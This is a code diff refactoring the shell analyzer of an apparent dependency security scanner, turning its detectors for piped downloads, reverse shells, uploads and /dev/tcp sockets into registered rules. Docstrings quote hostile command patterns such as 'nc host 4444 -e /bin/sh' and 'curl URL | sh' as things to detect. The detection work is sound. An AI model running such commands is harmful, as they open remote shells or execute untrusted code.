@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import re
 from collections.abc import Iterable, Iterator
+from dataclasses import dataclass
 
 from depshield.analyzers.base import (
     SIGNAL_DECODE,
@@ -12,6 +13,7 @@ from depshield.analyzers.base import (
     SIGNAL_SOURCE,
     SIGNAL_SPAWN,
 )
+from depshield.analyzers.rule import Collector
 from depshield.analyzers.shell.entry import script_entry_files
 from depshield.analyzers.shell.facts import (
     BUILTINS,
@@ -26,6 +28,7 @@ from depshield.analyzers.shell.facts import (
     sink_kind,
     sources,
 )
+from depshield.analyzers.shell.family import COMMAND_TYPES, RULES
 from depshield.analyzers.shell.parse import (
     SHELLS,
     Command,
@@ -49,23 +52,37 @@ _DEV_SOCKET = re.compile(r"/dev/(?:tcp|udp)/(?!localhost/|127\.|0\.0\.0\.0/|\[?:
 _PLAUSIBLE_PROGRAM = re.compile(r"(?:\.{0,2}[/\\]|[A-Za-z]:\\)?[\w@+-][\w@+.:/\\-]*|\.|\[\[?")
 
 
+@dataclass(frozen=True, slots=True)
+class ShellText:
+    """What a script-wide shell rule reads: the parsed script and the text it came from."""
+
+    script: Script
+    text: str
+    file: str
+    line_offset: int
+    top: bool
+
+
 def analyze_shell(
     text: str, file: str, line_offset: int = 0, top_level: bool = True
 ) -> list[Finding]:
     """Findings for shell `text` whose first line is line `line_offset + 1` of `file`."""
-    script = parse_script(text, line_offset)
-    out: list[Finding] = []
-    for cmd in script.commands:
-        out.extend(_command_findings(cmd, file, top_level))
-    out.extend(_pipeline_findings(script, file, top_level))
-    out.extend(_reverse_shell_findings(script, file, top_level))
-    out.extend(_sequence_findings(script, file, top_level, _COMPARED_DIGEST.search(text)))
-    out.extend(upload_findings(script, file, top_level))
-    out.extend(_dev_tcp_findings(text, file, line_offset, top_level))
-    return _dedupe(out)
+    src = ShellText(parse_script(text, line_offset), text, file, line_offset, top_level)
+    out = _Findings()
+    for rule in RULES:
+        with out.rule(rule):
+            if rule.reads == "command":
+                for cmd in src.script.commands:
+                    out.extend(rule.fn(cmd, file, top_level))
+            else:
+                out.extend(rule.fn(src))
+    return out.findings
 
 
+@RULES.rule("shell.command", reads="command", emits=COMMAND_TYPES)
 def _command_findings(cmd: Command, file: str, top: bool) -> Iterator[Finding]:
+    """Each command: processes, downloads, sinks, decodes, sources, and its literal words."""
+
     def f(type_: str, props: dict[str, object]) -> Finding:
         return Finding(type_, file, cmd.line, _clip(cmd.text), dict(props), top)
 
@@ -94,7 +111,12 @@ def _command_findings(cmd: Command, file: str, top: bool) -> Iterator[Finding]:
     yield from _literal_findings(cmd, file, top)
 
 
-def _pipeline_findings(script: Script, file: str, top: bool) -> Iterator[Finding]:
+@RULES.rule(
+    "shell.pipeline", reads="script", emits={"remoteCodeDownload", "encodedPayloadExecution"}
+)
+def _pipeline_findings(src: ShellText) -> Iterator[Finding]:
+    """A download or a decode piped into an interpreter: `curl URL | sh`, `base64 -d | bash`."""
+    script, file, top = src.script, src.file, src.top
     for stages in script.pipelines:
         fetched = decoded = False
         for cmd in stages:
@@ -117,8 +139,10 @@ def _pipeline_findings(script: Script, file: str, top: bool) -> Iterator[Finding
             decoded = decoded or is_decode(cmd)
 
 
-def _reverse_shell_findings(script: Script, file: str, top: bool) -> Iterator[Finding]:
+@RULES.rule("shell.reverse-shell", reads="script", emits={"reverseShell"})
+def _reverse_shell_findings(src: ShellText) -> Iterator[Finding]:
     """A shell wired to a socket: `nc host 4444 -e /bin/sh`, `sh -i 2>&1 | nc host 4444`."""
+    script, file, top = src.script, src.file, src.top
     for cmd in script.commands:
         if cmd.name in NETCATS and any(a.text in ("-e", "-c") for a in cmd.args):
             yield Finding("reverseShell", file, cmd.line, _clip(cmd.text), {"how": "nc -e"}, top)
@@ -136,11 +160,12 @@ def _reverse_shell_findings(script: Script, file: str, top: bool) -> Iterator[Fi
             )
 
 
-def _sequence_findings(
-    script: Script, file: str, top: bool, compared: re.Match[str] | None
-) -> Iterator[Finding]:
+@RULES.rule("shell.sequence", reads="script", emits={"remoteCodeDownload"})
+def _sequence_findings(src: ShellText) -> Iterator[Finding]:
     """A download saved to a file, then that file run: `curl -o f URL && chmod +x f && ./f`;
     not when a checksum or signature check comes between them."""
+    script, file, top = src.script, src.file, src.top
+    compared = _COMPARED_DIGEST.search(src.text)
     saved: dict[str, Command] = {}
     verified = False
     for cmd in script.commands:
@@ -207,8 +232,20 @@ def _literal_findings(cmd: Command, file: str, top: bool) -> Iterator[Finding]:
             yield from scan_literal(text, file, cmd.line, top)
 
 
-def _dev_tcp_findings(text: str, file: str, line_offset: int, top: bool) -> Iterator[Finding]:
+@RULES.rule("shell.upload", reads="script", emits={"dataExfiltration"})
+def _upload(src: ShellText) -> Iterator[Finding]:
+    """Secrets or the environment sent with an upload (shell/upload.py)."""
+    return upload_findings(src.script, src.file, src.top)
+
+
+@RULES.rule(
+    "shell.dev-socket",
+    reads="script",
+    emits={"networkAccess", SIGNAL_SINK, "reverseShell"},
+)
+def _dev_tcp_findings(src: ShellText) -> Iterator[Finding]:
     """bash's /dev/tcp sockets live in redirections, which are not command arguments."""
+    text, file, line_offset, top = src.text, src.file, src.line_offset, src.top
     if "/dev/tcp/" not in text and "/dev/udp/" not in text:
         return  # cheap test before the line loop
     for n, line in enumerate(text.splitlines(), start=line_offset + 1):
@@ -253,13 +290,17 @@ def _clip(text: str) -> str:
     return text if len(text) <= _EVIDENCE else text[: _EVIDENCE - 3] + "..."
 
 
-def _dedupe(findings: list[Finding]) -> list[Finding]:
+class _Findings(Collector):
     """One finding per (type, line, evidence, props): `sh -c` texts are seen twice."""
-    seen: set[tuple[str, int, str, str]] = set()
-    out = []
-    for f in findings:
-        key = (f.type, f.line, f.evidence, repr(sorted(f.props.items())))
-        if key not in seen:
-            seen.add(key)
-            out.append(f)
-    return out
+
+    def __init__(self) -> None:
+        super().__init__()
+        self._seen: set[tuple[str, int, str, str]] = set()
+
+    def extend(self, findings: Iterable[Finding]) -> None:
+        for f in findings:
+            self.check(f.type)
+            key = (f.type, f.line, f.evidence, repr(sorted(f.props.items())))
+            if key not in self._seen:
+                self._seen.add(key)
+                self.findings.append(f)
